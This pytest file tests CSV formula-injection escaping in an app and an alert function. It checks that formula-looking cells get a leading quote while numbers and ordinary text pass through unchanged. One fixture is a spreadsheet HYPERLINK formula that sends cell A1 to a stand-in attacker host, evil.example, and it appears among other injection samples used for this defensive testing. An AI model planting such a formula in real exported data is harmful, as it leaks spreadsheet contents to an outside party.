"""Every CSV the app or the alert function writes opens in a spreadsheet as
data: formula-looking text gets a leading ', numbers stay numbers."""

import csv
import io
import json
from decimal import Decimal

import pytest

import lambda_alert.csvsafe
import pitstop.csvsafe
from lambda_alert.decide import alert_for
from tests.lambda_alert.conftest import DAILY_KEY, sample

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cola")'
BOTH = pytest.mark.parametrize(
    "csvsafe", [pitstop.csvsafe, lambda_alert.csvsafe], ids=["app", "lambda"]
)
QUOTED = [
    (HYPERLINK, "'" + HYPERLINK),
    ("+55 11 99999-0000", "'+55 11 99999-0000"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("'=1+1", "''=1+1"),  # already quoted by hand: read back as written
]
KEPT = ["Cola 350ml", "", "a=b", "Pão de queijo", "'quoted'", "x-1"]
NUMBERS = [-5, 0, 7, Decimal("-1.50"), Decimal("12.50"), -2.5]


@BOTH
@pytest.mark.parametrize(("text", "written"), QUOTED)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(csvsafe, text, written):
    assert csvsafe.cell(text) == written


@BOTH
@pytest.mark.parametrize("text", KEPT)
def test_ordinary_text_is_written_as_it_is(csvsafe, text):
    assert csvsafe.cell(text) == text


@BOTH
@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_stay_numbers_even_negative(csvsafe, number):
    assert csvsafe.cell(number) is number


@BOTH
def test_the_writer_quotes_every_cell_of_every_row(csvsafe):
    out = io.StringIO()
    writer = csvsafe.writer(out)
    writer.writerow(["sku", "name", "qty"])
    writer.writerows([["=A1", HYPERLINK, -3], ["COLA", "Cola", 2]])

    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["sku", "name", "qty"],
        ["'=A1", "'" + HYPERLINK, "-3"],
        ["COLA", "Cola", "2"],
    ]


@pytest.mark.parametrize("text", [text for text, _ in QUOTED] + KEPT)
def test_unescape_gives_back_what_was_written(text):
    assert pitstop.csvsafe.unescape(pitstop.csvsafe.cell(text)) == text


def test_the_alert_functions_order_csv_quotes_a_formula_name():
    doc = sample("daily_summary.json")
    doc["low_stock"][0]["name"] = HYPERLINK
    doc["low_stock"][0]["supplier"] = "@evil"
    alert = alert_for(DAILY_KEY, json.dumps(doc).encode())

    rows = list(csv.DictReader(io.StringIO(alert.order_csv.decode())))
    row = next(r for r in rows if r["name"].endswith(HYPERLINK))
    assert row["name"] == "'" + HYPERLINK
    assert row["supplier"] == "'@evil"
    assert all(r["quantity"].isdigit() for r in rows)
